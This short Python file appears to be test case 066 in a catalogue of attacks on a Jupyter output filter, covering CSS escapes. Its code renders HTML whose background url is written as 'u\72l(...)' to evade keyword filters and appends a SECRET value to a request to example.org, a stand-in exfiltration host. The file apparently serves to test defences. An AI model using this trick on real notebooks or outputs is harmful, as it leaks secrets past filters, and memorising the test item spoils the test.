"""Attack 066: css escape"""

IDEA = "The same with escapes, which a filter of words does not see."
SOURCE = "CSS Syntax Module, escapes"
WAY = "iopub/display_data/data"
CODE = r"""
from IPython.display import HTML, display

display(HTML('<p style="background: u\\72l(https://example.org/%s)">x</p>' % SECRET))
"""
ABSENT = ["SECRET"]
